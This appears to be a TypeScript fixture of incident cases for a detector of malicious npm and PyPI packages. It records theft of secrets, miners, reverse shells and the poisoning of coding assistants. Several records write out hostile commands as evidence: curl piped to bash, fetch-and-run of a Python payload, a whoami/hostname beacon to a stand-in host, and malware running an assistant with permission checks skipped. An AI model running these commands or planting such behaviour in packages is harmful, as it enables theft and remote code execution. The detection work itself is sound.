import { changed, matched } from './package-facts.ts'
import { settled, type StoryCase, twin, young } from './package-story-case.ts'

/** What malicious packages of 2022 to 2026 did, and the ways in which others did the same. */
export const INCIDENT_STORIES: readonly StoryCase[] = [
  {
    name: 'torchtriton: keys and host facts in questions to the name service',
    package: {
      name: 'torchtriton',
      ecosystem: 'PyPI',
      did: [
        { kind: 'read-secret-file', subject: '.ssh', when: 'import', path: 'pkg/__init__.py' },
        {
          kind: 'dns',
          subject: '….h4ck.example',
          when: 'import',
          path: 'pkg/__init__.py',
          line: 9,
          from: ['secret-file .ssh hex @ pkg/__init__.py:3', 'host-facts hostname hex', 'host-facts USER hex'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
    says: 'reads ~/.ssh, the host name and the user name, encodes it as hexadecimal and asks the name service',
  },
  {
    name: 'Nx: assistants look for secrets, a repository takes them',
    package: {
      name: 'nx',
      input: settled,
      did: [
        { kind: 'assistant-command', subject: 'claude', evidence: 'claude --dangerously-skip-permissions -p …' },
        { kind: 'assistant-command', subject: 'gemini' },
        {
          kind: 'network',
          subject: 'api.github.com',
          from: ['environment * json base64', 'secret-file .npmrc json base64', 'command-output gh json base64'],
        },
        { kind: 'publish-repository', subject: 'api.github.com', from: ['command-output gh'] },
        { kind: 'persist', subject: 'shell profile' },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets', 'poisons-assistants', 'persists', 'spreads'],
  },
  {
    name: 'chalk and debug: hooks of fetch, addresses of wallets, a table of strings',
    package: {
      name: 'chalk',
      input: { ...settled, changes: [changed('obfuscation', 'string-table', 0.75, 'index.js')] },
      did: [
        { kind: 'hook-runtime', subject: 'fetch', when: 'import', path: 'index.js' },
        { kind: 'hook-runtime', subject: 'ethereum', when: 'call', path: 'index.js' },
        { kind: 'wallet', subject: 'addresses', when: 'unknown', path: 'index.js' },
        { kind: 'obfuscation', subject: 'string-table', when: 'unknown', path: 'index.js' },
      ],
    },
    verdict: 'block',
    stories: ['replaces-addresses', 'runs-hidden-code'],
    says: 'replaces fetch and ethereum',
  },
  {
    name: 'Shai-Hulud: a scanner for secrets, a workflow, every package of the maintainer',
    package: {
      name: '@ctrl/tinycolor',
      hook: 'node bundle.js',
      did: [
        { kind: 'hunt-secrets', subject: 'trufflehog' },
        { kind: 'cloud-metadata', subject: '169.254.169.254' },
        {
          kind: 'network',
          subject: 'webhook.site',
          from: ['environment * json base64', 'command-output trufflehog base64', 'host-facts hostname json'],
        },
        { kind: 'write-workflow', subject: 'workflow' },
        { kind: 'publish-package', subject: 'npm' },
        { kind: 'publish-repository', subject: 'gh' },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets', 'spreads'],
  },
  {
    name: 'the second wave: another runtime is fetched to run a file of the package, and revenge',
    package: {
      name: 'zapier-sdk',
      hook: 'node setup_bun.js',
      roles: { 'setup_bun.js': 'install', 'bun_environment.js': 'library' },
      did: [
        { kind: 'download', subject: 'runtime.example', path: 'setup_bun.js', evidence: 'bash' },
        {
          kind: 'execute',
          subject: '~/.bun/bin/bun',
          path: 'setup_bun.js',
          evidence: 'node:child_process.spawn("~/.bun/bin/bun", ["<here>/bun_environment.js"])',
        },
        { kind: 'hide', subject: 'detached', path: 'setup_bun.js' },
        { kind: 'destroy', subject: '~/', when: 'call', path: 'setup_bun.js' },
      ],
    },
    verdict: 'block',
    stories: ['starts-bundled-program', 'runs-downloaded-code', 'destroys'],
    says: 'fetches a runtime',
  },
  {
    name: 'litellm 1.82.8: a .pth that sends keys with every start of Python',
    package: {
      name: 'litellm',
      ecosystem: 'PyPI',
      input: { ...settled, changes: [changed('path-configuration', 'pkg.pth', 0.8, 'pkg.pth')] },
      did: [
        {
          kind: 'evaluate',
          subject: 'exec',
          when: 'import',
          path: 'pkg.pth',
          from: ['decoded 34000+characters base64'],
        },
        {
          kind: 'network',
          subject: 'models.collect.example',
          when: 'import',
          path: 'pkg.pth',
          from: ['secret-file .ssh encrypt', 'secret-file .kube encrypt', 'environment * encrypt'],
        },
        { kind: 'persist', subject: 'systemd', when: 'import', path: 'pkg.pth' },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets', 'runs-hidden-code', 'persists'],
    says: 'With every start of the interpreter',
  },
  {
    name: 'litellm 1.82.7: the same in a module that its users load',
    package: {
      name: 'litellm',
      ecosystem: 'PyPI',
      input: {
        ...settled,
        changes: [changed('capability', 'secret-file -> network', 0.85, 'litellm/proxy/proxy_server.py')],
      },
      did: [
        {
          kind: 'network',
          subject: 'models.collect.example',
          when: 'import',
          path: 'litellm/proxy/proxy_server.py',
          from: ['secret-file .ssh encrypt', 'environment * encrypt'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
  },
  {
    name: 'axios: the release itself is clean and brings a dependency of yesterday, published another way',
    package: {
      name: 'axios',
      input: {
        ...settled,
        changes: [
          changed('dependency', 'plain-crypto-js', 0.8),
          changed('publishing-method', 'token', 0.6),
          changed('provenance', 'dropped', 0.5),
        ],
      },
      did: [{ kind: 'network', subject: '?', when: 'call', path: 'index.js' }],
    },
    verdict: 'hold',
    stories: ['suspicious-release'],
    says: 'dependency plain-crypto-js is new',
  },
  {
    name: 'plain-crypto-js: decoded commands by platform, and the traces go',
    package: {
      name: 'plain-crypto-js',
      ...young,
      hook: 'node setup.js',
      did: [
        {
          kind: 'execute',
          subject: 'curl',
          from: ['decoded 120+characters base64'],
          evidence: 'curl -o /tmp/ld.py https://packages.example/p',
        },
        { kind: 'download', subject: 'packages.example', evidence: 'curl -o /tmp/ld.py https://packages.example/p' },
        { kind: 'execute', subject: 'python3', evidence: 'nohup python3 /tmp/ld.py' },
        { kind: 'hide', subject: 'deletes itself' },
      ],
    },
    verdict: 'block',
    stories: ['runs-hidden-code', 'runs-downloaded-code'],
  },
  {
    name: '@bitwarden/cli: files of clouds, enciphered',
    package: {
      name: '@bitwarden/cli',
      did: [
        {
          kind: 'network',
          subject: 'audit.example',
          from: [
            'secret-file .aws json gzip encrypt base64',
            'secret-file gcloud',
            'secret-file .ssh',
            'secret-file assistant+settings',
          ],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
    says: 'compresses it, enciphers it, encodes it as base64 and sends it to audit.example',
  },
  {
    name: 'lightning: a bundle of JavaScript in a wheel, started on import through another runtime',
    package: {
      name: 'lightning',
      ecosystem: 'PyPI',
      input: {
        ...settled,
        changes: [changed('size', '11 MB', 0.6), changed('capability', 'download', 0.45, 'pkg/__init__.py')],
      },
      roles: { 'pkg/_runtime/router.js': 'library' },
      did: [
        {
          kind: 'download',
          subject: 'runtime.example',
          when: 'import',
          path: 'pkg/__init__.py',
          evidence: 'urllib.request.urlretrieve("https://runtime.example/bun.zip")',
        },
        {
          kind: 'execute',
          subject: 'bun',
          when: 'import',
          path: 'pkg/__init__.py',
          evidence: 'subprocess.Popen(["bun", "<here>/_runtime/router.js"])',
        },
        { kind: 'hide', subject: 'output silenced', when: 'import', path: 'pkg/__init__.py' },
      ],
    },
    verdict: 'block',
    stories: ['starts-bundled-program'],
  },
  {
    name: 'Mini Shai-Hulud: instructions and hooks of assistants, written on import',
    package: {
      name: 'mistralai',
      ecosystem: 'PyPI',
      did: [
        { kind: 'write-assistant-configuration', subject: 'settings', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'write-workflow', subject: 'workflow', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'publish-repository', subject: 'git', when: 'import', path: 'pkg/__init__.py' },
      ],
    },
    verdict: 'block',
    stories: ['spreads', 'poisons-assistants'],
  },
  {
    name: 'ultralytics 8.3.41: a miner is fetched and started on import',
    package: {
      name: 'ultralytics',
      ecosystem: 'PyPI',
      input: { ...settled, changes: [changed('capability', 'mine', 0.9, 'pkg/__init__.py')] },
      did: [
        { kind: 'download', subject: 'github.com', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'write-executable', subject: '/tmp/ultralytics_runner', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'execute', subject: '/tmp/ultralytics_runner', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'mine', subject: 'stratum', when: 'import', path: 'pkg/__init__.py' },
      ],
    },
    verdict: 'block',
    stories: ['mines', 'runs-downloaded-code'],
  },
  {
    name: 'deepseeek: whole environment to a service for hooks, in a package of yesterday',
    package: {
      name: 'deepseeek',
      ecosystem: 'PyPI',
      input: { ...young.input, names: [twin('deepseek')] },
      did: [
        {
          kind: 'network',
          subject: 'eoyyiyqubj7mquj.m.pipedream.net',
          path: 'setup.py',
          from: ['environment * json', 'host-facts USER json'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets', 'impersonates'],
  },
  {
    name: 'a probe of dependency confusion in a command of the manifest',
    package: {
      name: 'acme-internal',
      hook: 'curl https://x.oast.example/$(whoami)/$(hostname)',
      did: [
        { kind: 'host-facts', subject: 'whoami', path: 'package.json', line: 5 },
        { kind: 'host-facts', subject: 'hostname', path: 'package.json', line: 5 },
        { kind: 'network', subject: 'x.oast.example', path: 'package.json', line: 5 },
      ],
    },
    verdict: 'block',
    stories: ['reports-home'],
  },
  {
    name: 'a probe of dependency confusion by the name service',
    package: {
      name: 'acme-internal',
      did: [{ kind: 'dns', subject: '….dnslog.example', from: ['host-facts hostname hex', 'host-facts userInfo hex'] }],
    },
    verdict: 'block',
    stories: ['reports-home'],
  },
  {
    name: 'a probe that asks a host of nobody',
    package: {
      name: 'acme-internal',
      ecosystem: 'PyPI',
      did: [
        {
          kind: 'network',
          subject: 'probe.example',
          path: 'setup.py',
          from: ['host-facts hostname', 'host-facts USER'],
        },
      ],
    },
    verdict: 'hold',
    stories: ['reports-home'],
  },
  {
    name: 'a thief of sessions: stores of browsers to a messenger',
    package: {
      name: 'discord-tools',
      did: [
        {
          kind: 'network',
          subject: 'discord.com',
          when: 'import',
          path: 'index.js',
          from: ['browser-store browser', 'secret-file messages', 'wallet wallet', 'host-facts userInfo'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-browser-or-wallet'],
    says: 'the stores of browsers',
  },
  {
    name: 'a thief of sessions that waits to be called',
    package: {
      name: 'fast-logger',
      ecosystem: 'PyPI',
      did: [
        {
          kind: 'network',
          subject: 'api.telegram.org',
          when: 'call',
          path: 'pkg/__init__.py',
          from: ['browser-store browser zip'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-browser-or-wallet'],
  },
  {
    name: 'keys of wallets that leave when a library is called',
    package: {
      name: 'solana-key-tools',
      did: [
        {
          kind: 'network',
          subject: 'rpc.collect.example',
          when: 'call',
          path: 'index.js',
          from: ['wallet wallet json'],
        },
      ],
    },
    verdict: 'hold',
    stories: ['steals-browser-or-wallet'],
  },
  {
    name: 'a remote shell on install',
    package: { name: 'tool', did: [{ kind: 'reverse-shell', subject: '/dev/tcp' }] },
    verdict: 'block',
    stories: ['reverse-shell'],
  },
  {
    name: 'a loader: what a host answers is run on import',
    package: {
      name: 'tool',
      did: [{ kind: 'evaluate', subject: 'eval', when: 'import', path: 'index.js', from: ['network code.example'] }],
    },
    verdict: 'block',
    stories: ['runs-downloaded-code'],
    says: 'asks code.example and runs the answer as code',
  },
  {
    name: 'curl piped to a shell on install',
    package: {
      name: 'tool',
      hook: 'curl -s https://files.example/x | bash',
      did: [{ kind: 'download', subject: 'files.example', path: 'package.json', evidence: 'bash' }],
    },
    verdict: 'block',
    stories: ['runs-downloaded-code'],
  },
  {
    name: 'exec of base64 in setup.py',
    package: {
      name: 'tool',
      ecosystem: 'PyPI',
      did: [{ kind: 'evaluate', subject: 'exec', path: 'setup.py', from: ['decoded 4000+characters base64 zlib'] }],
    },
    verdict: 'block',
    stories: ['runs-hidden-code'],
  },
  {
    name: 'code in invisible characters, decoded and run',
    package: {
      name: 'editor-theme',
      did: [
        { kind: 'obfuscation', subject: 'hidden-characters', when: 'unknown', path: 'index.js' },
        { kind: 'evaluate', subject: 'eval', when: 'import', path: 'index.js' },
      ],
    },
    verdict: 'hold',
    stories: ['runs-hidden-code'],
  },
  {
    name: 'an unreadable program of the installation that starts others',
    package: {
      name: 'tool',
      hook: 'node install.js',
      did: [
        { kind: 'obfuscation', subject: 'string-table', when: 'unknown' },
        { kind: 'execute', subject: '?' },
      ],
    },
    verdict: 'hold',
    stories: ['runs-hidden-code'],
  },
  {
    name: 'a token that leaves on install',
    package: { name: 'tool', did: [{ kind: 'network', subject: 'collect.example', from: ['environment NPM_TOKEN'] }] },
    verdict: 'hold',
    stories: ['steals-secrets'],
    says: 'reads NPM_TOKEN and sends it to collect.example',
  },
  {
    name: 'tokens of several services that leave on install',
    package: {
      name: 'tool',
      did: [
        {
          kind: 'network',
          subject: 'collect.example',
          from: ['environment NPM_TOKEN', 'environment GITHUB_TOKEN', 'environment AWS_SECRET_ACCESS_KEY'],
        },
      ],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
  },
  {
    name: 'the host is named like the package, and keys leave all the same',
    package: {
      name: 'collect-client',
      link: 'https://collect.example',
      did: [{ kind: 'network', subject: 'api.collect.example', from: ['secret-file .ssh', 'environment *'] }],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
  },
  {
    name: 'a number instead of a host',
    package: {
      name: 'tool',
      ecosystem: 'PyPI',
      did: [{ kind: 'network', subject: '203.0.113.7', path: 'setup.py', from: ['environment * base64'] }],
    },
    verdict: 'block',
    stories: ['steals-secrets'],
  },
  {
    name: 'keys are read and somebody is talked to, the way between is lost',
    package: {
      name: 'tool',
      did: [
        { kind: 'read-secret-file', subject: '.ssh' },
        { kind: 'network', subject: 'collect.example' },
      ],
    },
    verdict: 'hold',
    stories: ['steals-secrets'],
  },
  {
    name: 'the clipboard is watched for addresses of wallets',
    package: {
      name: 'clip',
      ecosystem: 'PyPI',
      did: [
        { kind: 'clipboard', subject: 'pyperclip', when: 'import', path: 'pkg/__init__.py' },
        { kind: 'wallet', subject: 'addresses', when: 'unknown', path: 'pkg/__init__.py' },
      ],
    },
    verdict: 'block',
    stories: ['replaces-addresses'],
  },
  {
    name: 'screens that leave on import',
    package: {
      name: 'helper',
      ecosystem: 'PyPI',
      did: [
        {
          kind: 'network',
          subject: 'collect.example',
          when: 'import',
          path: 'pkg/__init__.py',
          from: ['spy ImageGrab base64'],
        },
      ],
    },
    verdict: 'block',
    stories: ['spies'],
  },
  {
    name: 'a key of somebody else that is let in',
    package: { name: 'tool', did: [{ kind: 'persist', subject: 'authorized keys' }] },
    verdict: 'block',
    stories: ['persists'],
  },
  {
    name: 'a home folder that is deleted on import',
    package: { name: 'colors-more', did: [{ kind: 'destroy', subject: '~', when: 'import', path: 'index.js' }] },
    verdict: 'block',
    stories: ['destroys'],
  },
  {
    name: 'a record names it',
    package: {
      name: 'tool',
      did: [],
      input: {
        known: [
          { id: 'MAL-2026-1', summary: 'Malicious code in tool', sources: ['a', 'b'], trust: 'sure', because: [] },
        ],
      },
    },
    verdict: 'block',
    stories: ['known-malware'],
  },
  {
    name: 'a record names it, and something contradicts the record',
    package: {
      name: 'tool',
      did: [],
      input: {
        known: [
          {
            id: 'MAL-2026-2',
            summary: '',
            sources: ['a'],
            trust: 'doubtful',
            because: ['it names every version of an old project'],
          },
        ],
      },
    },
    verdict: 'hold',
    stories: ['known-malware'],
  },
  {
    name: 'the archive runs a hook that the registry does not show',
    package: {
      name: 'tool',
      hook: 'node x.js',
      did: [],
      input: { changes: [changed('manifest-mismatch', 'postinstall', 0.8)] },
    },
    verdict: 'hold',
    stories: ['manifest-confusion'],
  },
  {
    name: 'an installer that could not be read',
    package: { name: 'tool', did: [], unread: { 'install.js': 'not' }, roles: { 'install.js': 'install' } },
    verdict: 'hold',
    stories: ['unreadable'],
  },
  {
    name: 'an archive that leads out of its folder',
    package: {
      name: 'tool',
      did: [],
      notes: [{ kind: 'outside', code: 'path-outside', path: '../../.ssh/authorized_keys', message: 'leads out' }],
    },
    verdict: 'hold',
    stories: ['unreadable'],
  },
  {
    name: 'an encrypted member',
    package: {
      name: 'tool',
      did: [],
      notes: [{ kind: 'encrypted', code: 'encrypted', path: 'x', message: 'is enciphered' }],
    },
    verdict: 'hold',
    stories: ['unreadable'],
  },
  {
    name: 'a young package with the name of another and a hook',
    package: {
      name: 'reqeusts',
      ecosystem: 'PyPI',
      hook: 'x',
      did: [],
      input: { ...young.input, names: [twin('requests')] },
    },
    verdict: 'hold',
    stories: ['impersonates'],
  },
  {
    name: 'an installer of binaries that is new in a patch of an old project',
    package: {
      name: 'old-tool',
      hook: 'node install.js',
      input: {
        ...settled,
        changes: [
          changed('install-hook', 'postinstall', 0.7, 'package.json'),
          changed('capability', 'download', 0.45, 'install.js'),
          changed('host', 'files.example', 0.4, 'install.js'),
        ],
      },
      did: [
        { kind: 'download', subject: 'files.example' },
        { kind: 'write-executable', subject: 'bin/x' },
      ],
    },
    verdict: 'hold',
    stories: ['suspicious-release'],
  },
  {
    name: 'a rule of the operator that blocks',
    package: {
      did: [],
      matches: [matched('seen_before', { verdict: 'block', description: 'The loader of last week.' })],
    },
    verdict: 'block',
    stories: ['own-rule'],
    says: 'The rule seen_before of own.yar matches lib/x.js: The loader of last week.',
  },
] // prettier-ignore
